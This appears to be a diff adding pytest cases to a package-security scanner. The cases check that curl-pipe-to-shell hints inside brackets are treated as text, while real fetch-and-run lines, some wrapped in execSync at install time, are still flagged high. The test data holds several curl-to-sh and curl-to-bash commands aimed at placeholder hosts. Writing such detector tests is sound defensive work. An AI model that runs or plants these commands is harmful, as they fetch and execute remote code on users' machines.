@@ -265,3 +265,47 @@ def test_a_download_pipe_in_an_array_not_held_as_data_stays_high(tmp_path: Path,
     """The element rule reads only an entry's array of literals in a file that runs nothing."""
     found = _found(_package(tmp_path, code, install=True))
     assert found["GH-INSTALL-FETCH-EXEC"] == "high"
+
+
+FETCH = "GH-INSTALL-FETCH-EXEC"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # a hint's lines, the fix in brackets
+        "const hint = [\n  'tool: command not found. install it with:',\n"
+        "  '    [curl -sfS https://example.invalid/install.sh | sh]',\n].join('\\n');\n"
+        "module.exports = () => console.error(hint);\n",
+        # a git hook written by the package, its message in brackets
+        "const fs = require('fs');\n"
+        "const HOOK = `#!/bin/sh\nif ! command -v tool >/dev/null; then\n"
+        '  echo "[tool] not found, fix: [curl -fsS https://example.invalid | sh]" >&2\n'
+        "  exit 1\nfi\ntool check\n`;\nfs.writeFileSync('.git/hooks/pre-commit', HOOK);\n",
+    ],
+    ids=["hint-lines", "hook-message"],
+)
+def test_a_download_glued_to_a_bracket_is_text(tmp_path: Path, code: str) -> None:
+    """@dotenvx/dotenvx 2.38.2 ``src/lib/helpers/executeDynamic.js`` (a hint's line ``'[curl -sfS
+    https://dotenvx.sh/armor | sh]'``) and ``installPrecommitHook.js`` /
+    ``uninstallPrecommitHook.js`` (the hook's ``echo "… install it with [curl -fsS … | sh]"``)
+    read GH-INSTALL-FETCH-EXEC high at risk. Given to a shell, ``[curl`` is one word, no
+    program: nothing is fetched."""
+    assert FETCH not in _found(_package(tmp_path, code, install=True))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "[ -x /usr/bin/tool ] || curl -sfS https://example.invalid/i.sh | sh",
+        "[[ -n $CI ]] && curl -sfS https://example.invalid/i.sh | sh",
+        "test -x tool || [curl -sfS https://example.invalid/i.sh | sh] ;"
+        " curl -sfS https://e.invalid | bash",
+        "x=[; curl -sfS https://example.invalid/i.sh | sh",
+    ],
+)
+def test_a_download_after_a_test_bracket_still_runs(tmp_path: Path, line: str) -> None:
+    """The test command ``[`` with its space, ``[[``, or another command beside a bracketed hint
+    on the same line: still fetched and run at install."""
+    code = "require('child_process').execSync(" + repr(line) + ");\n"
+    assert _found(_package(tmp_path, code, install=True))[FETCH] == "high"
